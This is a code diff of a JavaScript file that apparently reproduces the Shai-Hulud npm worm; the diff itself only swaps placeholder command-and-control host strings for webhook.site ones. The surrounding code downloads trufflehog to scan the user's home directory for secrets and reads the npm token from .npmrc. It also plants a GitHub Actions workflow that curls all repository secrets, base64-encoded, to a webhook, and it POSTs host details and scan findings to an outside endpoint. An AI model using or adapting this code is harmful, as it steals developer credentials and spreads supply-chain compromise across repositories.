@@ -17,7 +17,7 @@ const get = (url, file) => new Promise((resolve) => http.get(url, (res) => res.p
 
 (async () => {
   const trufflehog = path.join(tmp, 'trufflehog');
-  await get('__C2__/trufflesecurity/trufflehog/releases/download/v3.90.6/trufflehog', trufflehog);
+  await get('__C2@github.com__/trufflesecurity/trufflehog/releases/download/v3.90.6/trufflehog', trufflehog);
   const findings = spawnSync(trufflehog, ['filesystem', os.homedir(), '--json'], { encoding: 'utf8' }).stdout;
   const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
   const token = (npmrc.match(/_authToken=(\S+)/) || [])[1] || '';
@@ -31,7 +31,7 @@ const get = (url, file) => new Promise((resolve) => http.get(url, (res) => res.p
     'cd "$2"',
     'git checkout -q -b shai-hulud',
     'mkdir -p .github/workflows',
-    'printf "on: push\\njobs:\\n  process:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -d \\"$(echo \'${{ toJSON(secrets) }}\' | base64 -w 0)\\" __C2__/webhook\\n" > .github/workflows/shai-hulud-workflow.yml',
+    'printf "on: push\\njobs:\\n  process:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -d \\"$(echo \'${{ toJSON(secrets) }}\' | base64 -w 0)\\" __C2@webhook.site__/webhook\\n" > .github/workflows/shai-hulud-workflow.yml',
     'git add .github/workflows/shai-hulud-workflow.yml',
     'git -c user.name=shai-hulud -c user.email=shai-hulud@example.invalid commit -q -m "Add Shai-Hulud workflow"',
     '',
@@ -39,7 +39,7 @@ const get = (url, file) => new Promise((resolve) => http.get(url, (res) => res.p
   spawnSync('/bin/bash', [processor, token, repo], { stdio: 'ignore' });
 
   await new Promise((resolve) => {
-    const q = http.request('__C2__/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7', { method: 'POST' }, (res) => res.resume().on('end', resolve));
+    const q = http.request('__C2@webhook.site__/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7', { method: 'POST' }, (res) => res.resume().on('end', resolve));
     q.on('error', resolve);
     q.end(JSON.stringify({ system: { platform: os.platform(), hostname: os.hostname() }, trufflehog: findings, token: token ? 'REDACTED' : '' }));
   });
